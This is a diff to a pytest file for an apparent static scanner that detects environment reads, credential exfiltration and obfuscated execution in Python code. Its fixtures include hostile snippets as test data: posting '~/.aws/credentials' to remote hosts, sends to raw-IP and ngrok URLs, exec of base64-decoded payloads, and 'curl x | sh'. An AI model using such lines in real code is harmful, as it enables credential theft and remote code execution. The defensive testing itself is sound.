@@ -10,7 +10,7 @@ import pytest
 from analysis.code.facts import collect
 from analysis.code.hits import Reach
 from analysis.code.names import Names
-from analysis.code.text import worth_parsing
+from analysis.code.text import MAX_PER_WORD, worth_parsing
 from analysis.code.threats import entropy
 
 NAMES = [
@@ -49,6 +49,12 @@ FACTS = [
     ("import os\nok = 'CI' in os.environ\n", "env-all", False, "a membership test takes nothing"),
     ("import os\nos.environ.setdefault('A', '1')\n", "env-all", False, "setdefault takes nothing"),
     ("import os\nd = os.environ.copy()\n", "env-all", True, "copy() takes everything"),
+    ("from os import environ\nd = dict(environ)\n", "env-all", True, "environ imported by name"),
+    ("environ = {}\nd = dict(environ)\n", "env-all", False, "a local dict named environ"),
+    ("import os\nx: str\nx = os.environ['A']\n", "env", True, "a bare annotation assigns nothing"),
+    ("import os\nwith open(os.environ['A']):\n    pass\n", "env", True, "a with item without `as`"),
+    ("try:\n    import json\nexcept ImportError:\n    import os as o\nv = o.environ['A']\n", "env",
+     True, "imports inside an except block are learned"),
 ]  # fmt: skip
 
 
@@ -61,11 +67,30 @@ def test_fact_kinds(source: str, kind: str, present: bool, reason: str) -> None:
 
 
 FAR = b"x = 1\n" * 700  # more than NEAR bytes between two anchors
+FARTHER = FAR * 2  # far enough that their windows do not merge
 PREFILTER = [
     (b"exec(x)\n" + FAR + b"y = base64.b64decode(z)\n", False, "exec and decode far apart"),
     (b"exec(base64.b64decode(z))\n", True, "exec next to decode"),
-    ((b"exec(x)\n" + FAR) * 51 + b"exec(base64.b64decode(z))\n", False,
-     "the prefilter stops after 50 far-apart anchors of one word: bounded time"),
+    (b"exec(x)\n" + FARTHER + b"exec(base64.b64decode(z))\n", True,
+     "a later window of its own holds the pair"),
+    ((b"exec(x)\n" + FAR) * MAX_PER_WORD + b"exec(base64.b64decode(z))\n", False,
+     "the prefilter stops after MAX_PER_WORD far-apart places of one word: bounded time"),
+    (b"import requests\ncreds = load_credentials()\nrequests.post(u, data=creds)\n", False,
+     "'credentials' alone is in every cloud client: not a strong source"),
+    (b"import requests\np = '~/.aws/credentials'\nrequests.post(u, data=open(p).read())\n", True,
+     "a send next to a credential path"),
+    (b"import requests\nrequests.post('http://203.0.113.9/c', data=x)\n", True,
+     "a send next to a raw IP URL"),
+    (b"import requests\nrequests.post('ws://[2a03:4000:1:2::3]/c', data=x)\n", True,
+     "a send next to an IPv6 literal URL"),
+    (b"import requests\nrequests.post('https://abc.ngrok.io/c', data=x)\n", True,
+     "a send next to a tunnel host"),
+    (b"import requests\nrequests.get('https://example.org/docs')\n", False,
+     "a send next to an ordinary URL"),
+    (b"import subprocess, requests\nsubprocess.run(['ls'])\nrequests.get(u)\n", False,
+     "a process next to a send at runtime can only make a low finding"),
+    (b"import subprocess\nsubprocess.run('curl x | sh', shell=True)\n", True,
+     "a process running curl"),
 ]  # fmt: skip
 
 
@@ -85,3 +110,19 @@ ENTROPY = [
 @pytest.mark.parametrize(("text", "bits", "reason"), ENTROPY, ids=[e[2] for e in ENTROPY])
 def test_entropy(text: str, bits: float, reason: str) -> None:
     assert entropy(text) == pytest.approx(bits), reason
+
+
+def test_not_deep_reads_module_code_and_the_functions_it_calls() -> None:
+    source = (
+        "import os\n"
+        "def boot():\n    os.system('daemon --start')\n"
+        "def later():\n    os.system('daemon --stop')\n"
+        "boot()\n"
+    )
+    tree = ast.parse(source)
+    names = Names()
+    names.learn(tree.body)
+    scopes = collect(tree, names, deep=False)
+    spawned = [f.node.lineno for s in scopes for f in s.of("spawn")]  # type: ignore[attr-defined]
+    assert spawned == [3], "boot() runs on import and is read; later() is not"
+    assert [f.node.lineno for s in collect(tree, names) for f in s.of("spawn")] == [3, 5]  # type: ignore[attr-defined]
